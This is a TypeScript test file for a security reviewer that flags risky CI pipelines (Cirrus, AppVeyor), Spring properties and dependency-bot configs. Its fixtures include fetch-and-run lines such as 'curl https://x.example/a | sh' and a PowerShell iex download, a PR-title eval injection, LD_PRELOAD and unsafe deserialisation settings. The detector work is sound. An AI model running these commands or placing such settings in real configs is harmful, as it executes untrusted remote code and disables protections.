import { describe, expect, test } from 'vitest';
import { codecov } from '../../../../reviewers/security/bots/codecov.ts';
import { dependabot, lostUpdates } from '../../../../reviewers/security/bots/dependabot.ts';
import { renovate } from '../../../../reviewers/security/bots/renovate.ts';
import { cargoAudit } from '../../../../reviewers/security/build-files/formats/cargo-audit.ts';
import { cargoManifest } from '../../../../reviewers/security/build-files/formats/cargo.ts';
import { pyproject } from '../../../../reviewers/security/build-files/formats/pyproject.ts';
import { judgeManifest, type ManifestFormat } from '../../../../reviewers/security/build-files/manifest-format.ts';
import { judgePipelineAt } from '../../../../reviewers/security/checks/pipelines.ts';
import { springSettings } from '../../../../reviewers/security/settings/spring.ts';

/** What is told and in which line, and whether something is left that nobody knows. */
function said({ hazards, unread }: ReturnType<typeof judgePipelineAt>): string[] {
  return [...hazards.map(({ rule, lines }) => `${rule} ${lines[0] ?? 0}`), ...(unread.length > 0 ? ['unjudged'] : [])];
}

const judged = (format: ManifestFormat | null, text: string, path = 'x'): string[] =>
  format === null ? ['no format'] : said(judgeManifest(format, text, path));

const CIRRUS = '.cirrus.yml';
const APPVEYOR = 'appveyor.yml';

describe('services', () => {
  test.each([
    [
      CIRRUS,
      'freebsd_instance: {image_family: freebsd-14-3}\ntask:\n  name: a\n  test_script:\n    - cargo test\n',
      [],
    ],
    // Cirrus lets the key stand twice.
    [CIRRUS, 'task:\n  name: a\n  script: make\ntask:\n  name: b\n  script: make test\n', []],
    [CIRRUS, 'task:\n  script: make\ntask:\n  x_script: curl https://x.example/a | sh\n', ['downloaded-code 4']],
    [CIRRUS, 'task:\n  script: eval "$CIRRUS_PR_TITLE"\n', ['workflow-injection 2']],
    [CIRRUS, 'container: {image: "a/b"}\ntask: {script: make}\n', ['moving-image 1']],
    [CIRRUS, 'task:\n  container: {image: "a:1", dockerfile: ci/Dockerfile}\n  script: make\n', ['unjudged']],
    [CIRRUS, 'task:\n  env: {RUSTFLAGS: -D warnings, CI_NAME: a}\n  script: make\n', []],
    [CIRRUS, 'task:\n  env: {RUSTC_WRAPPER: ./x}\n  script: make\n', ['unjudged']],
    [CIRRUS, 'task:\n  env: {LD_PRELOAD: ./x.so}\n  script: make\n', ['unjudged']],
    [CIRRUS, 'task:\n  allow_failures: true\n  script: make\n', ['unjudged']],
    [CIRRUS, 'task:\n  skip: true\n  script: make\n', ['unjudged']],
    [CIRRUS, "task:\n  clone_script: git clone https://x.example/y\n  only_if: $CIRRUS_PR != ''\n", []],
    [CIRRUS, 'load: ./x.star\n', ['unjudged']],
    [APPVEYOR, 'image: Visual Studio 2022\ninstall:\n  - choco install dotnet-sdk --version 9.0.101\n', []],
    [
      APPVEYOR,
      'install:\n  - ps: iex ((New-Object Net.WebClient).DownloadString("https://x.example/a"))\n',
      ['downloaded-code 2'],
    ],
    [APPVEYOR, 'install:\n  - "%PYTHON%\\\\python.exe x.py"\n', ['unjudged']],
    [APPVEYOR, 'install:\n  - sh: curl https://x.example/a | sh\n', ['downloaded-code 2']],
    [APPVEYOR, 'test: off\n', ['unjudged']],
    [APPVEYOR, 'deploy:\n  - api_key: 0123456789abcdef0123\n', ['hard-coded-secret 2']],
    [APPVEYOR, 'environment:\n  GIT_SSH_COMMAND: x\n', ['unjudged']],
  ])('%s: %j', (path, text, expected) => {
    expect(said(judgePipelineAt(text, path))).toEqual(expected);
  });
});

describe('properties of Spring', () => {
  test.each([
    ['server.port=8080\nspring.application.name=a\nlogging.level.root=INFO\n', []],
    ['# app.auth.enabled=false\n', []],
    ['management.elastic.metrics.export.enabled=false\n', []],
    ['app.auth.admin.enabled=true\n', []],
    ['app.auth.admin.enabled=false\n', ['security-check-off 1']],
    ['APP_AUTH_SKIP=true\n', ['security-check-off 1']],
    ['management.endpoints.web.exposure.include=health, env\n', ['public-exposure 1']],
    ['management.endpoints.web.exposure.include=health,info\n', []],
    ['spring.h2.console.enabled=true\n', ['public-exposure 1']],
    ['spring.datasource.url=jdbc:mysql://h/d?autoDeserialize=true\n', ['unsafe-deserialisation 1']],
    ['logging.config=http://x.example/logback.xml\n', ['downloaded-code 1']],
    // A class, an expression, a script, a place of one's own: nobody knows what they do.
    ['context.initializer.classes=a.B\n', ['unjudged']],
    ['spring.main.sources=a.B\n', ['unjudged']],
    ['app.feature.enabled=true\n', ['unjudged']],
    ['app.checks.enabled=false\n', ['unjudged']],
    ['spring.datasource.driver-class-name=a.B\n', ['unjudged']],
    ['server.port=${random.int}\n', ['unjudged']],
    ['server.servlet.session.timeout=999d\n', ['unjudged']],
    ['spring.application.name=a\\\napp.auth.enabled=false\n', ['unjudged']],
    ['\\u0061pp.auth.enabled=false\n', ['unjudged']],
  ])('%j', (text, expected) => {
    expect(judged(springSettings('src/main/resources/application.properties'), text)).toEqual(expected);
  });

  test('also in YAML', () => {
    const text = 'server:\n  port: 8080\napp:\n  csrf:\n    enabled: false\n';
    expect(judged(springSettings('application-prod.yml'), text)).toEqual(['security-check-off 5']);
  });
});

describe('bots', () => {
  test.each([
    [renovate, '{"extends": ["config:recommended", ":semanticCommits"], "schedule": ["before 4am"]}', []],
    [renovate, '{"packageRules": [{"matchPackageNames": ["a"], "groupName": "b"}]}', []],
    [renovate, '{"packageRules": [{"matchPackageNames": ["a"], "enabled": false}]}', ['security-check-off 1']],
    [renovate, '{"packageRules": [{"matchPackageNames": ["a"], "allowedVersions": "<5"}]}', ['security-check-off 1']],
    [renovate, '{"automerge": true, "ignoreTests": true}', ['security-check-off 1', 'security-check-off 1']],
    [renovate, '{"postUpgradeTasks": {"commands": ["make"]}}', ['install-script 1']],
    [renovate, '{"allowScripts": true}', ['install-script 1']],
    [renovate, '{"vulnerabilityAlerts": {"enabled": false}}', ['security-check-off 1']],
    [renovate, '{"registryUrls": ["https://x.example/npm"]}', ['registry-override 1']],
    [renovate, '{"hostRules": [{"insecureRegistry": true}]}', ['certificate-check-off 1']],
    [renovate, '{"extends": ["github>somebody/presets"]}', ['unjudged']],
    [renovate, '{"extends": [":automergeAll"]}', ['unjudged']],
    [renovate, '{"extends": [":disableVulnerabilityAlerts"]}', ['unjudged']],
    [renovate, '{"labels": ["automerge"]}', ['unjudged']],
    [renovate, '{"npmrc": "registry=https://x.example"}', ['unjudged']],
    [renovate, '{"enabledManagers": ["npm"]}', ['unjudged']],
    [codecov, 'coverage:\n  status:\n    patch:\n      default: {target: 90%, threshold: 1%}\n', []],
    [codecov, 'coverage:\n  status:\n    patch:\n      default: {target: 1%}\n', ['security-check-off 4']],
    [codecov, 'coverage:\n  status:\n    patch: off\n', ['security-check-off 3']],
    [codecov, 'coverage:\n  status:\n    project:\n      default: {informational: true}\n', ['security-check-off 4']],
    [codecov, 'codecov: {require_ci_to_pass: no}\n', ['security-check-off 1']],
    [codecov, 'coverage:\n  notify:\n    slack:\n      default: {url: "https://x.example"}\n', ['unjudged']],
    [
      dependabot,
      'version: 2\nupdates:\n- package-ecosystem: npm\n  directory: /\n  schedule: {interval: weekly}\n',
      [],
    ],
    [dependabot, 'updates:\n- insecure-external-code-execution: allow\n', ['install-script 2']],
    [
      dependabot,
      'registries:\n  a: {type: npm-registry, url: "http://x.example"}\n',
      ['registry-override 2', 'unjudged'],
    ],
    [dependabot, 'updates:\n- ignore:\n  - dependency-name: "*"\n', ['security-check-off 3']],
    [dependabot, 'updates:\n- open-pull-requests-limit: 0\n', ['security-check-off 2']],
    [dependabot, 'updates:\n- target-branch: x\n', ['unjudged']],
    [cargoAudit, '[advisories]\nignore = ["RUSTSEC-2023-0071"]\n', ['security-check-off 2']],
    [cargoAudit, '[database]\nurl = "https://x.example"\n', ['unjudged']],
    [cargoManifest, '[[example]]\nname = "a"\npath = "a.rs"\n', []],
    [cargoManifest, '[[example]]\nname = "a"\npath = "../../a.rs"\n', ['unjudged']],
    [cargoManifest, '[[bin]]\nname = "a"\npath = "a.rs"\n', ['unjudged']],
    [pyproject, '[tool.cibuildwheel]\nbuild = "cp3*"\nskip = ["pp*"]\n', []],
    [pyproject, '[tool.cibuildwheel]\nmanylinux-x86_64-image = "manylinux_2_28"\n', []],
    [pyproject, '[tool.cibuildwheel]\nmanylinux-x86_64-image = "x.example/a/b"\n', ['unjudged']],
    [pyproject, '[tool.cibuildwheel]\nbefore-all = "./x"\n', ['unjudged']],
    [pyproject, '[tool.cibuildwheel]\ntest-skip = "*"\n', ['unjudged']],
    [pyproject, '[tool.cibuildwheel]\nbefore-all = "curl https://x.example/a | sh"\n', ['downloaded-code 2']],
    [pyproject, '[[tool.mypy.overrides]]\nmodule = ["a.*", "b"]\nwarn_unused_ignores = false\n', ['unjudged']],
    [pyproject, '[tool.poetry]\nexclude = ["tests/x"]\n', []],
    [pyproject, '[tool.poetry]\nexclude = ["src/a/guard.py"]\n', ['unjudged']],
  ])('%#: %j', (format, text, expected) => {
    expect(judged(format, text, 'Cargo.toml')).toEqual(expected);
  });

  test('modules of an override come and go where it only asks less of types', () => {
    const unread = (modules: string, option: string): number =>
      judgeManifest(pyproject, `[[tool.mypy.overrides]]\nmodule = [${modules}]\n${option}\n`, 'pyproject.toml').unread
        .length;
    expect([unread('"a"', 'warn_unused_ignores = false'), unread('"a", "b"', 'warn_unused_ignores = false')]).toEqual([
      1, 1,
    ]);
    expect([unread('"a"', 'ignore_errors = true'), unread('"a", "b"', 'ignore_errors = true')]).toEqual([2, 3]);
  });

  test('what is watched no more is told', () => {
    const text = (...names: string[]): string =>
      `updates:\n${names.map((name) => `- package-ecosystem: ${name}\n`).join('')}`;
    expect(lostUpdates(text('npm', 'cargo'), text('cargo')).map(({ identity }) => identity)).toEqual([
      'package-ecosystem npm',
    ]);
    expect(lostUpdates(text('npm'), text('npm', 'cargo'))).toEqual([]);
  });
});
